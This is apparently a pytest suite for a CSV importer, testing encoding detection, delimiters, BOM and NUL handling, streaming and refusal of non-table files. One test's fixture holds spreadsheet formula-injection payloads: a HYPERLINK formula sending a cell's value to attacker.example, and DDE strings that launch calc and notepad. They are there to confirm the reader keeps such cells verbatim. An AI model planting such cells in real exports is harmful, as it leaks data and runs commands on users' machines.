import random
import tracemalloc
import unicodedata
from pathlib import Path

import pytest

from accord.integrations.readers import ReadError, Row, open_table

TESTDATA = Path(__file__).resolve().parents[2] / "testdata"
CASES = TESTDATA / "cases"
DIALECTS = TESTDATA / "csv-dialects"


def values(table):
    return [row.values for row in table.rows()]


def test_utf8_bom_is_not_part_of_the_first_header():
    table = open_table(CASES / "csv-utf8-bom-header" / "contacts_bom.csv")

    assert table.kind == "csv"
    assert table.encoding == "utf-8-sig"
    assert table.delimiter == ","
    assert table.headers == ["email", "first_name", "last_name", "phone"]
    assert len(table.headers[0]) == 5
    assert values(table) == [
        ["mira.holt@example.org", "Mira", "Holt", "+44 20 7946 0101"],
        ["tomas.reyes@example.net", "Tom\u00e1s", "Reyes", "+34 912 345 678"],
        ["anke.vos@example.com", "Anke", "Vos", "+31 20 123 4567"],
    ]


def test_the_same_file_without_bom_reads_the_same(tmp_path):
    with_bom = CASES / "csv-utf8-bom-header" / "contacts_bom.csv"
    without_bom = tmp_path / "contacts.csv"
    without_bom.write_bytes(with_bom.read_bytes()[3:])

    plain = open_table(without_bom)

    assert plain.encoding == "utf-8"
    assert plain.headers == open_table(with_bom).headers
    assert list(plain.rows()) == list(open_table(with_bom).rows())


def test_bom_is_stripped_from_the_header_when_utf8_is_chosen_by_hand():
    table = open_table(CASES / "csv-utf8-bom-header" / "contacts_bom.csv", encoding="utf-8")

    assert table.headers[0] == "email"


def test_windows_1252_is_detected_and_first_letters_kept():
    table = open_table(CASES / "csv-windows-1252" / "contacts_cp1252.csv")

    assert table.encoding == "cp1252"
    assert table.headers == ["first_name", "last_name", "company", "city", "note"]
    assert values(table) == [
        ["Ömer", "Özdemir", "Öko Bau GmbH", "Überlingen", "Rückruf erbeten"],
        ["Élise", "Äbersold", "Café Lumière SARL", "Genève", "Angebot 1.250 \u20ac netto"],
        ["Siobhán", "O\u2019Rourke", "Dún Laoghaire Marine", "Dublin", "Termin 10\u201311 Uhr"],
        ["Jörg", "Weiß", "Straßenbau Weiß & Söhne", "München", "\u201eBestandskunde\u201c"],
    ]
    assert table.notes == []


def test_windows_1252_file_read_as_utf8_names_the_byte_and_row():
    with pytest.raises(ReadError) as raised:
        open_table(CASES / "csv-windows-1252" / "contacts_cp1252.csv", encoding="utf-8")

    assert str(raised.value) == (
        "The file is not valid UTF-8 (byte 0xD6 in row 2); choose its encoding, "
        "for example Windows-1252."
    )


def test_a_bad_byte_after_the_sample_stops_reading_at_its_row(tmp_path):
    path = tmp_path / "late.csv"
    with path.open("wb") as out:
        out.write(b"name,city\n")
        for number in range(60_000):
            out.write(b"Person %d,Somewhere\n" % number)
        out.write("Zoé,Genève\n".encode("cp1252"))
    table = open_table(path)
    rows = table.rows()

    first = next(rows)
    with pytest.raises(ReadError) as raised:
        list(rows)

    assert path.stat().st_size > 1 << 20
    assert table.encoding == "utf-8"
    assert first == Row(number=2, values=["Person 0", "Somewhere"], extra=[])
    assert str(raised.value) == (
        "The file is not valid UTF-8 (byte 0xE9 in row 60002); choose its encoding, "
        "for example Windows-1252."
    )


def test_semicolons_and_quoted_semicolons():
    table = open_table(CASES / "csv-semicolon-decimal-comma" / "deals_de.csv")

    assert table.encoding == "utf-8"
    assert table.delimiter == ";"
    assert table.headers == [
        "Name", "Firma", "Betrag", "Abschlussdatum", "Phase", "Beschreibung"]
    assert values(table) == [
        ["Rahmenvertrag 2025", "Kessler Antriebe AG", "12.500,00", "31.12.2024", "Gewonnen",
         "Lieferung; Montage und Wartung"],
        ["Ersatzteile Q1", "Brandt & Co. KG", "980,5", "15.01.2025", "Angebot",
         "Standardpreise"],
        ["Schulung", "Kessler Antriebe AG", "1.200", "03.02.2025", "Verhandlung",
         "2 Tage, vor Ort"],
    ]


def test_phone_numbers_stay_text_exactly_as_written():
    table = open_table(CASES / "phone-leading-zero-and-plus" / "contacts_phones.csv")

    assert [row.values[1] for row in table.rows()] == [
        "0444 12 34 56",
        "+44 (0)20 7946 0958",
        "00441632960123",
        "02 1234 5678",
        "0049 30 901820",
        "+1 (555) 010-0199 ext. 42",
    ]


def test_dates_are_read_as_written():
    table = open_table(CASES / "date-day-first-column" / "contacts_dates.csv")

    assert [row.values[2:] for row in table.rows()] == [
        ["03/04/1985", "01/02/2020"],
        ["31/12/1990", "15/06/2021"],
        ["12/11/2001", "07/08/2022"],
    ]


def test_formula_like_cells_are_read_verbatim():
    table = open_table(CASES / "csv-export-formula-injection" / "contacts_with_formulas.csv")

    assert values(table) == [
        ['=HYPERLINK("http://attacker.example/x?d="&A2;"Click")', "Fenn", "Hollow Oak Ltd",
         "+1 555 0100", "ok"],
        ["Dana", "Kirsch", "@SUM(1+1)", "+44 20 7946 0102", "-10% agreed"],
        ["Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "\tcmd|' /C calc'!A0"],
        ["Rosa", "Lindqvist", "+cmd|' /C notepad'!A0", "+46 8 123 456", "=1+2"],
    ]


def test_decomposed_accents_are_read_as_they_are():
    table = open_table(CASES / "search-accent-insensitive" / "contacts_accents.csv")

    rows = list(table.rows())

    assert rows[4].number == 6
    assert rows[4].values[:2] == ["Jose\u0301", "Iba\u0301n\u0303ez"]
    assert not unicodedata.is_normalized("NFC", rows[4].values[0])
    assert rows[5].values[:2] == ["Jose", "Ibanez"]
    assert rows[0].values[:2] == ["\u00c1lvaro", "N\u00fa\u00f1ez"]


DIALECT_FILES = {
    "bad.csv": ("utf-8", ["column_a", "column_b", "column_c"], [
        Row(2, ["1", "27", ""], ["I'm too long!"]),
        Row(3, ["", "I'm too short!", ""], []),
        Row(4, ["0", "mixed types.... uh oh", "17"], []),
    ]),
    "blanks.csv": ("utf-8", ["a", "b", "c", "d", "e", "f"], [
        Row(2, ["", "NA", "N/A", "NONE", "NULL", "."], []),
    ]),
    "date_like_number.csv": ("utf-8", ["a"], [Row(2, ["4.5"], [])]),
    "mac_newlines.csv": ("utf-8", ["a", "b", "c"], [
        Row(2, ["1", "2", "3"], []),
        Row(3, ["Once upon\ra time", "5", "6"], []),
    ]),
    "null_byte.csv": ("utf-8", ["a", "b", "c"], [Row(2, ["", "2", "3"], [])]),
    "optional_quote_characters.csv": ("utf-8", ["a", "b", "c"], [Row(2, ["1", "2", "3"], [])]),
    "test_date_format.csv": ("utf-8", ["a"], [
        Row(2, ["02/01/2014"], []), Row(3, ["31/12/2012"], [])]),
    "test_empty_columns_long_row.csv": ("utf-8", ["a", "b", "c"], []),
    "test_empty_columns_short_row.csv": ("utf-8", ["a", "b", "c"], []),
    "test_header_newline.csv": ("utf-8", ["start end", "b", "c"], [Row(2, ["d", "e", "f"], [])]),
    "test_latin1.csv": ("cp1252", ["a", "b", "c"], [
        Row(2, ["1", "2", "3"], []), Row(3, ["4", "5", "\u00a9"], [])]),
    "test_locale.csv": ("utf-8", ["a", "b", "c"], [Row(2, ["1,7", "200.000.000", ""], [])]),
    "test_no_leading_zeroes.csv": ("utf-8", ["a", "b", "c"], [
        Row(2, ["01", "00.11", "0.1"], [])]),
    "test_numeric_date_format.csv": ("utf-8", ["a"], [
        Row(2, ["20140102"], []), Row(3, ["20121231"], [])]),
    "test_utf16_big.csv": ("utf-16", ["a", "b", "c"], [
        Row(2, ["1", "2", "3"], []), Row(3, ["4", "5", "\u02a4"], [])]),
    "test_utf16_little.csv": ("utf-16", ["a", "b", "c"], [
        Row(2, ["1", "2", "3"], []), Row(3, ["4", "5", "\u02a4"], [])]),
    "test_utf8.csv": ("utf-8", ["foo", "bar", "baz"], [
        Row(2, ["1", "2", "3"], []), Row(3, ["4", "5", "\u02a4"], [])]),
    "test_utf8_bom.csv": ("utf-8-sig", ["foo", "bar", "baz"], [
        Row(2, ["1", "2", "3"], []), Row(3, ["4", "5", "\u02a4"], [])]),
}


def test_every_dialect_file_is_checked():
    assert sorted(DIALECT_FILES) == sorted(path.name for path in DIALECTS.glob("*.csv"))


@pytest.mark.parametrize("name", sorted(DIALECT_FILES))
def test_dialect_file_opens_and_reads(name):
    encoding, headers, rows = DIALECT_FILES[name]

    table = open_table(DIALECTS / name)

    assert (table.encoding, table.delimiter, table.headers) == (encoding, ",", headers)
    assert list(table.rows()) == rows


def test_nul_bytes_are_removed_with_a_note():
    table = open_table(DIALECTS / "null_byte.csv")

    list(table.rows())
    list(table.rows())

    assert table.notes == ["NUL bytes were removed from row 2; they are not text."]


def test_nul_bytes_on_several_rows_make_one_note(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"a,b\n1,\x002\nx,y\n\x003,4\x00\n")
    table = open_table(path)

    rows = list(table.rows())

    assert [row.values for row in rows] == [["1", "2"], ["x", "y"], ["3", "4"]]
    assert table.notes == [
        "NUL bytes were removed from 2 rows, the first being row 2; they are not text."]


def test_rows_can_be_read_again_from_the_top():
    table = open_table(CASES / "phone-leading-zero-and-plus" / "contacts_phones.csv")

    first = list(table.rows())
    second = list(table.rows())

    assert len(first) == 6
    assert first == second


def test_quoted_line_breaks_are_one_row_and_blank_lines_count(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_bytes(b'name,note\r\nAnna,"line one\r\nline two"\r\n\r\nBen,short\r\n')

    rows = list(open_table(path).rows())

    assert rows == [
        Row(2, ["Anna", "line one\r\nline two"], []),
        Row(4, ["Ben", "short"], []),
    ]


def test_blank_and_repeated_headers_get_distinct_names(tmp_path):
    path = tmp_path / "headers.csv"
    path.write_text(" Email ,,Email,email,Email (2)\n1,2,3,4,5\n", encoding="utf-8")

    table = open_table(path)

    assert table.headers == ["Email", "Column 2", "Email (3)", "email (4)", "Email (2)"]


def test_tab_separated_file(tmp_path):
    path = tmp_path / "export.tsv"
    path.write_text("name\tamount\nA, B\t1,5\n", encoding="utf-8")

    table = open_table(path)

    assert table.delimiter == "\t"
    assert values(table) == [["A, B", "1,5"]]


def test_bar_separated_file_without_extension(tmp_path):
    path = tmp_path / "upload"
    path.write_text("name|city\nZoé|Genève\nAnna|Basel\n", encoding="utf-8")

    table = open_table(path)

    assert (table.kind, table.delimiter) == ("csv", "|")
    assert values(table) == [["Zoé", "Genève"], ["Anna", "Basel"]]


def test_delimiter_can_be_chosen(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("a;b,c\n1;2,3\n", encoding="utf-8")

    assert open_table(path).headers == ["a;b", "c"]
    assert open_table(path, delimiter=";").headers == ["a", "b,c"]


def test_utf16_without_bom_is_detected(tmp_path):
    path = tmp_path / "unicode.txt"
    path.write_bytes("name\tcity\r\nZoé\tGenève\r\n".encode("utf-16-le"))

    table = open_table(path, filename="Unicode Text.txt")

    assert (table.encoding, table.delimiter) == ("utf-16-le", "\t")
    assert values(table) == [["Zoé", "Genève"]]


def test_cyrillic_code_page_is_detected(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_bytes("Имя,Фамилия,Город\nИрина,Соколова,Москва\nПётр,Иванов,Казань\n"
                     .encode("cp1251"))

    table = open_table(path)

    assert table.encoding == "cp1251"
    assert table.headers == ["Имя", "Фамилия", "Город"]


def test_byte_undefined_in_windows_1252_reads_as_latin1(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_bytes(b"name,note\nCaf\xe9,\x81\n")

    table = open_table(path)

    assert table.encoding == "latin-1"
    assert values(table) == [["Café", "\x81"]]


def test_random_bytes_are_refused_as_not_text(tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes(random.Random(3).randbytes(5000))

    with pytest.raises(ReadError, match="This does not look like a text file"):
        open_table(path)


def test_unknown_encoding_is_refused():
    with pytest.raises(ReadError) as raised:
        open_table(DIALECTS / "test_utf8.csv", encoding="klingon")

    assert str(raised.value) == (
        "“klingon” is not an encoding this importer knows; choose another one.")


def test_empty_file_is_refused(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_bytes(b"\r\n\r\n")

    with pytest.raises(ReadError) as raised:
        open_table(path)

    assert str(raised.value) == "The file is empty."


def test_unclosed_quote_is_reported_with_its_row(tmp_path):
    path = tmp_path / "broken.csv"
    path.write_bytes(b'name,note\nAnna,"starts here\n' + b"x" * 1_100_000 + b"\n")
    table = open_table(path)

    with pytest.raises(ReadError) as raised:
        list(table.rows())

    assert str(raised.value) == (
        "Row 2 could not be read: a field is longer than 1,048,576 characters, which usually "
        "means a quote is not closed.")


def test_a_long_quoted_note_is_read_whole(tmp_path):
    note = "Long history. " * 18_000  # about 250,000 characters
    path = tmp_path / "notes.csv"
    path.write_text(f'name,note\nAnna,"{note}"\nBo,short\n', encoding="utf-8")

    assert values(open_table(path)) == [["Anna", note], ["Bo", "short"]]


def test_workbook_uploaded_under_a_csv_name_is_refused(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 40)

    with pytest.raises(ReadError) as raised:
        open_table(path)

    assert str(raised.value).startswith("This file is a compressed archive or a workbook")


def test_old_excel_file_is_refused(tmp_path):
    path = tmp_path / "contacts.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40)

    with pytest.raises(ReadError) as raised:
        open_table(path)

    assert "old-style Excel (.xls)" in str(raised.value)


def test_a_large_file_is_streamed(tmp_path):
    path = tmp_path / "large.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write("number,first_name,last_name,email,phone,city,note\r\n")
        line = ("{0},Zoé,Lefèvre-Château,zoe.{0}@example.org,+33 6 12 34 56 78,"
                "Saint-Étienne,\"Called back, wants a quote for the spring order\"\r\n")
        for number in range(200_000):
            out.write(line.format(number))
    table = open_table(path)

    tracemalloc.start()
    try:
        count, last = 0, None
        for row in table.rows():
            count, last = count + 1, row
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert path.stat().st_size > 25_000_000
    assert count == 200_000
    assert last.number == 200_001
    assert last.values[3] == "zoe.199999@example.org"
    assert peak < 2_000_000


def test_excel_delimiter_line_is_followed_and_not_a_row(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbfsep=;\r\nName;Amount\r\nKessler, Anna;1,5\r\n")

    table = open_table(path)

    assert (table.encoding, table.delimiter) == ("utf-8-sig", ";")
    assert table.headers == ["Name", "Amount"]
    assert list(table.rows()) == [Row(2, ["Kessler, Anna", "1,5"], [])]


@pytest.mark.parametrize(("name", "content", "start"), [
    ("meetings.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "This is a calendar file"),
    ("upload", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "This is a calendar file"),
    ("sheet.ods", b"PK\x03\x04" + b"\x00" * 26 + b"mimetypeapplication/vnd.oasis."
     b"opendocument.spreadsheet", "OpenDocument spreadsheets (.ods) cannot be read yet"),
])
def test_files_that_hold_no_table_are_refused(tmp_path, name, content, start):
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(ReadError) as raised:
        open_table(path)

    assert str(raised.value).startswith(start)


def test_cards_are_only_for_vcard_files():
    table = open_table(DIALECTS / "test_utf8.csv")

    with pytest.raises(TypeError):
        table.cards()


def test_chosen_encoding_names_are_normalised(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_bytes("name\nZoé\n".encode("cp1252"))

    assert open_table(path, encoding="Windows-1252").encoding == "cp1252"
    assert open_table(path, encoding="ISO-8859-1").encoding == "latin-1"
    with pytest.raises(ReadError) as raised:
        open_table(path, encoding="UTF8")
    assert str(raised.value) == (
        "The file is not valid UTF-8 (byte 0xE9 in row 2); choose its encoding, "
        "for example Windows-1252.")


def test_quoted_line_breaks_and_commas_do_not_mislead_the_delimiter(tmp_path):
    path = tmp_path / "tickets.csv"
    path.write_text(
        'Subject;Description;Priority\n'
        'Login;"Cannot sign in, password reset,\nthen again, and again";High\n'
        'Invoice;"Wrong amount, see attachment";Low\n', encoding="utf-8")

    table = open_table(path)

    assert table.delimiter == ";"
    assert list(table.rows()) == [
        Row(2, ["Login", "Cannot sign in, password reset,\nthen again, and again", "High"], []),
        Row(3, ["Invoice", "Wrong amount, see attachment", "Low"], []),
    ]


def test_a_character_cut_by_the_end_of_the_sample_is_still_utf8(tmp_path):
    path = tmp_path / "cut.csv"
    lines = b"name,city\n" + b"Anna,Basel\n" * 95_000
    pad = b"Ben," + b"x" * (1_048_575 - len(lines) - 5) + b" "
    content = lines + pad + "é\nZoé,Genève\n".encode()
    path.write_bytes(content)

    table = open_table(path)
    rows = list(table.rows())

    assert content[1_048_575:1_048_577] == "é".encode()
    assert table.encoding == "utf-8"
    assert rows[-2].values[1].endswith("x é")
    assert rows[-1] == Row(95_003, ["Zoé", "Genève"], [])


def test_utf16_big_endian_without_bom_is_detected(tmp_path):
    path = tmp_path / "unicode.csv"
    path.write_bytes("name,city\nZoé,Genève\n".encode("utf-16-be"))

    table = open_table(path)

    assert table.encoding == "utf-16-be"
    assert [row.values for row in table.rows()] == [["Zoé", "Genève"]]


SHARED_DATA = Path("/work/shared/data")


@pytest.mark.parametrize(("name", "width", "count"), [
    ("customer-support-tickets/customer_support_tickets.csv", 17, 8_469),
    ("telco-customer-churn/WA_Fn-UseC_-Telco-Customer-Churn.csv", 21, 7_043),
])
def test_real_exports_read_record_by_record(name, width, count):
    path = SHARED_DATA / name
    if not path.exists():
        pytest.skip("the shared data sets are not on this machine")

    table = open_table(path)
    rows = list(table.rows())

    assert (table.encoding, table.delimiter, len(table.headers)) == ("utf-8", ",", width)
    assert len(rows) == count
    assert rows[-1].number == count + 1
    assert all(len(row.values) == width and row.extra == [] for row in rows)


def test_control_characters_are_counted_as_unicode_defines_them():
    from accord.integrations.readers.csvfile import _CONTROL

    text = "".join(chr(code) for code in range(0x3000)) * 2

    assert len(_CONTROL.findall(text)) == sum(
        1 for char in text if char not in "\t\r\n\x00" and unicodedata.category(char) == "Cc")
